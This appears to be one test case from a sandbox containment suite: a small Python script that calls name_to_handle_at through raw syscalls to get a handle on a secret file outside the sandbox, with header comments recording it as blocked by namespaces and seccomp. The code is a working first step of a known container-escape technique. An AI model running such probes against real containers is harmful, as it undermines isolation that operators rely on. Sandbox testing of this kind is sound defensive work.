# attack: asks for a file handle, a name for a file outside that needs no path any more
# full: contained
# reduced: contained
# stopped-by: namespaces, seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 8 + 128)
    mount = ctypes.c_int()
    syscall({"x86_64": 303, "aarch64": 264}, -100, SECRET.encode(), handle, ctypes.byref(mount), 0)
    return f"through: {handle.raw[:32].hex()} on mount {mount.value}"
